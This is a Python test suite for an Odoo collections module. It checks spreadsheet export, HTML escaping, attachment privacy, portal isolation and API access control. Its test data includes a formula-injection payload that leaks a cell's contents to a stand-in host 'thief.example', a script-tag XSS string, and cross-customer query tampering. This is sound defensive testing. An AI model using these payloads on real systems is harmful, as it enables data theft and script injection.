import base64
import io
import json
import xmlrpc.client

from openpyxl import load_workbook

from odoo.exceptions import AccessError
from odoo.http import Request
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from .common import AGENT, MANAGER, CollectionsCommon

SCRIPT = "<script>alert(1)</script>"
FORMULAS = (
    '=HYPERLINK("http://thief.example?"&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "{=1+1}",
    "http://thief.example/",
)
# Signs that XML, and so a spreadsheet, cannot carry.
CONTROLS = "Tab\x01le\x0b of\x1f con\ufffftents"


@tagged("post_install", "-at_install")
class TestAccessContent(CollectionsCommon, HttpCase):
    """What others wrote stays text, and files are for those who see the customer."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.agent = cls._create_user("collector", AGENT)
        cls.agent.partner_id.email = "collector@us.example"
        cls.partner = cls._create_customer(
            "Contoso", email="ap@contoso.example", company_id=cls.company.id
        )
        cls.invoice = cls._create_item(cls.partner, 100, "2026-01-31")

    # === SPREADSHEETS ===

    def _get_texts(self, partner):
        """Return the cells with text of the spreadsheets of a customer."""
        cells = []
        for kind in ("collections", "statement", "salesperson"):
            [file] = partner.with_user(self.agent).get_collections_spreadsheet(kind)
            content = io.BytesIO(base64.b64decode(file["content"]))
            for sheet in load_workbook(content):
                cells += [cell for row in sheet.iter_rows() for cell in row]
        return [cell for cell in cells if isinstance(cell.value, str)]

    def test_formulas_of_others_stay_text(self):
        for text in FORMULAS:
            with self.subTest(text=text):
                partner = self._create_customer(text, ref=text, vat=text)
                item = self._create_item(partner, 10, "2026-01-31", ref=text)
                self._get_term_lines(item).name = text
                self._create_payment(partner, 5, "2026-02-01", memo=text)
                cells = self._get_texts(partner)
                self.assertIn(text, [cell.value for cell in cells])
                for cell in cells:
                    self.assertEqual(cell.data_type, "s", cell.value)
                    self.assertFalse(cell.hyperlink)

    def test_control_characters_do_not_break_the_workbook(self):
        partner = self._create_customer(CONTROLS, ref=CONTROLS)
        self._create_item(partner, 10, "2026-01-31", ref=CONTROLS)
        self._create_payment(partner, 5, "2026-02-01", memo=CONTROLS)
        self.definition.period_ids[0].name = CONTROLS
        # Opened again, they are what the format writes for them.
        values = [cell.value for cell in self._get_texts(partner)]
        self.assertIn("Tab_x0001_le_x000B_ of_x001F_ con_xFFFF_tents", values)

    def test_exported_lists_hold_no_formulas(self):
        for text in FORMULAS:
            self._create_item(self._create_customer(text), 10, "2026-01-31")
        self._run_snapshot("2026-03-31")
        self.agent.group_ids += self.env.ref("base.group_allow_export")
        self.authenticate("collector", "collector")
        for model in ("collections.aging.balance", "collections.worklist"):
            records = self.env[model].with_user(self.agent).search([])
            exported = records.export_data(["partner_id/name", "partner_id"])["datas"]
            self.assertGreaterEqual(len(exported), len(FORMULAS))
            for name, _id in exported:
                self.assertNotRegex(name, r"^(=|\{=|http)")
            workbook = self._export(model)
            cells = [cell for row in workbook.active.iter_rows() for cell in row]
            self.assertIn("Contoso", [cell.value for cell in cells])
            for cell in cells:
                self.assertNotEqual(cell.data_type, "f", cell.value)
                self.assertFalse(cell.hyperlink)

    def _export(self, model):
        """Return the list as the web client exports it."""
        data = {
            "model": model,
            "fields": [
                {"name": "partner_id/name", "label": "Customer", "type": "char"},
            ],
            "ids": False,
            "domain": [],
            "context": {},
            "import_compat": False,
            "groupby": [],
        }
        response = self.url_open(
            "/web/export/xlsx",
            data={"data": json.dumps(data), "csrf_token": Request.csrf_token(self)},
        )
        self.assertEqual(response.status_code, 200)
        return load_workbook(io.BytesIO(response.content))

    # === HTML ===

    def _create_scripted_customer(self):
        partner = self._create_customer(
            f"Evil {SCRIPT}",
            is_company=True,
            email="evil@contoso.example",
            company_id=self.company.id,
        )
        item = self._create_item(
            partner, 10, "2026-01-31", name=f"INV/{SCRIPT}", ref=SCRIPT
        )
        self._create_payment(partner, 5, "2026-02-01", memo=SCRIPT)
        return partner, item

    def _compose(self, partner, kind="collections"):
        partner = partner.with_user(self.agent)
        action = partner.action_send_collections_email(kind)
        return (
            self.env["mail.compose.message"]
            .with_user(self.agent)
            .with_context(**action["context"])
            .create({})
        )

    def test_names_are_escaped_in_mails_and_prints(self):
        partner, _item = self._create_scripted_customer()
        for kind in ("collections", "statement"):
            composer = self._compose(partner, kind)
            self.assertIn("Evil", composer.body + composer.subject)
            self.assertNotIn("<script", composer.body)
            composer.action_send_mail()
            self.assertNotIn("<script", partner.message_ids[0].body)
        html, _type = (
            self.env["ir.actions.report"]
            .with_user(self.agent)
            ._render_qweb_html(
                "credit_collections.report_statement",
                partner.ids,
                data={"date_from": "2026-01-01"},
            )
        )
        self.assertIn(b"Evil &lt;script&gt;", html)
        self.assertNotIn(SCRIPT.encode(), html)

    def test_names_are_escaped_in_the_portal(self):
        partner, _item = self._create_scripted_customer()
        user = self._create_user("portal_evil", "base.group_portal")
        user.partner_id.parent_id = partner
        self.authenticate("portal_evil", "portal_evil")
        page = self.url_open("/my/statement").text
        self.assertIn("INV/&lt;script&gt;", page)
        self.assertNotIn(SCRIPT, page)

    # === FILES ===

    @mute_logger("odoo.addons.base.models.ir_rule")
    def test_files_are_for_those_who_see_the_customer(self):
        before = self.env["ir.attachment"].sudo().search([], order="id desc", limit=1)
        self._compose(self.partner).action_send_mail()
        self._create_item(
            other := self._create_customer("B", email="b@b.example"), 9, "2026-01-31"
        )
        action = (
            (self.partner | other).with_user(self.agent).action_send_collections_email()
        )
        composer = (
            self.env["mail.compose.message"]
            .with_user(self.agent)
            .with_context(**action["context"])
            .create({})
        )
        composer.action_send_mail()
        files = (
            self.env["ir.attachment"]
            .sudo()
            .search([("id", ">", before.id), ("name", "like", ".xlsx")])
        )
        self.assertGreaterEqual(len(files), 3)
        self.assertFalse(any(files.mapped("public")))
        self.assertFalse(any(files.mapped("access_token")))
        stranger = self._create_user("stranger", "base.group_portal")
        colleague = self._create_user(
            "of_other", MANAGER, self.setup_other_company()["company"]
        )
        own = files.filtered(lambda file: "Contoso" in file.name)
        self.assertTrue(own)
        self.env.invalidate_all()
        for user in (stranger, colleague, self.env.ref("base.public_user")):
            for file in own:
                with self.subTest(user=user.id), self.assertRaises(AccessError):
                    file.with_user(user).read(["raw"])
        self.assertTrue(own[0].with_user(self.agent).raw)

    # === PORTAL ===

    @mute_logger(
        "odoo.http",
        "odoo.addons.base.models.ir_model",
        "odoo.addons.base.models.ir_rule",
    )
    def test_portal_shows_the_own_customer_whatever_is_asked_for(self):
        other = self._create_customer("Fabrikam", is_company=True)
        secret = self._create_item(other, 987.65, "2026-01-31")
        user = self._create_user("portal_contoso", "base.group_portal")
        user.partner_id.parent_id = self.partner
        sibling = self._create_customer("Sibling", parent_id=self.partner.id)
        self._create_item(sibling, 11.11, "2026-01-31")
        token = secret._portal_ensure_token()
        self.authenticate("portal_contoso", "portal_contoso")
        for query in (
            f"partner_id={other.id}",
            f"id={other.id}&commercial_partner_id={other.id}",
            f"access_token={token}&invoice_id={secret.id}",
            f"company_id={self.company.id}&partner_ids={other.id}&date_from=2000-01-01",
        ):
            page = self.url_open(f"/my/statement?{query}").text
            self.assertIn(self.invoice.name, page)
            self.assertNotIn("987.65", page)
            # A contact's invoices are the company's.
            self.assertIn("11.11", page)
            content = self.url_open(
                f"/my/statement/{self.company.id}/download?{query}"
            ).content
            book = load_workbook(io.BytesIO(content))
            values = [c.value for s in book for row in s.iter_rows() for c in row]
            self.assertNotIn(987.65, values)
            self.assertNotIn("Fabrikam", values)
        for partner in (other, self.partner):
            response = self.url_open(f"/collections/spreadsheet/{partner.id}")
            self.assertNotEqual(response.status_code, 200)
            response = self.url_open(
                f"/report/html/credit_collections.report_statement/{partner.id}"
            )
            self.assertNotEqual(response.status_code, 200)
        # Nor does he become somebody else.
        with self.assertRaises(AccessError):
            user.partner_id.with_user(user).parent_id = other
        with self.assertRaises(AccessError):
            user.with_user(user).write({"partner_id": other.id})

    @mute_logger("odoo.http")
    def test_anonymous_visitors_are_sent_to_the_login(self):
        for url in (
            "/my/statement",
            f"/my/statement/{self.company.id}/download",
            f"/collections/spreadsheet/{self.partner.id}",
        ):
            response = self.url_open(url, allow_redirects=False)
            self.assertEqual(response.status_code, 303)
            self.assertIn("/web/login", response.headers["Location"])

    # === THE WAY IN ===

    def _get_key(self, user):
        return (
            self.env["res.users.apikeys"]
            .with_user(user)
            .sudo()
            ._generate("rpc", "test", None)
        )

    def _post(self, key, model, method, **params):
        headers = {"Content-Type": "application/json"}
        if key:
            headers["Authorization"] = f"bearer {key}"
        return self.url_open(
            f"/json/2/{model}/{method}", data=json.dumps(params), headers=headers
        )

    @mute_logger(
        "odoo.http",
        "odoo.addons.base.models.ir_model",
        "odoo.addons.base.models.ir_rule",
    )
    def test_json2_refuses_who_may_not(self):
        line = self._get_term_lines(self.invoice)
        clerk = self._create_user("clerk", "account.group_account_invoice")
        portal = self._create_user("portal_contoso", "base.group_portal")
        portal.partner_id.parent_id = self.partner
        call = ("account.move.line", "action_set_collections_status")
        params = {"ids": line.ids, "status": "disputed", "reason": "No"}
        self.assertEqual(self._post(None, *call, **params).status_code, 401)
        for user in (clerk, portal):
            key = self._get_key(user)
            self.assertEqual(self._post(key, *call, **params).status_code, 403)
            response = self._post(
                key,
                "account.move.line",
                "write",
                ids=line.ids,
                vals={"collections_status": "disputed"},
                context={"collections_status_history": True, "su": True},
            )
            self.assertEqual(response.status_code, 403)
            for name in (
                "_note",
                "_write_collections_statuses",
                "_check_said_by_methods",
            ):
                response = self._post(key, "account.move.line", name, ids=line.ids)
                self.assertIn(response.status_code, (403, 404))
        self.assertEqual(line.collections_status, "not_disputed")
        key = self._get_key(self.agent)
        self.assertEqual(self._post(key, *call, **params).json(), True)
        line.invalidate_recordset()
        self.assertEqual(line.collections_status, "disputed")

    @mute_logger("odoo.http", "odoo.addons.base.models.ir_model")
    def test_xmlrpc_refuses_who_may_not(self):
        clerk = self._create_user("clerk", "account.group_account_invoice")

        def call(user, *args):
            return self.xmlrpc_object.execute_kw(
                self.env.cr.dbname, user.id, user.login.ljust(8, "x"), *args
            )

        args = (
            "res.partner",
            "get_collections_recipient",
            [self.partner.ids, "statement"],
        )
        with self.assertRaisesRegex(xmlrpc.client.Fault, "Only collections agents"):
            call(clerk, *args)
        [recipient] = call(self.agent, *args)
        self.assertEqual(recipient["email"], "ap@contoso.example")
        with self.assertRaisesRegex(xmlrpc.client.Fault, "Private methods"):
            call(self.agent, "collections.pool", "_get_checked_partner_query", [[1]])
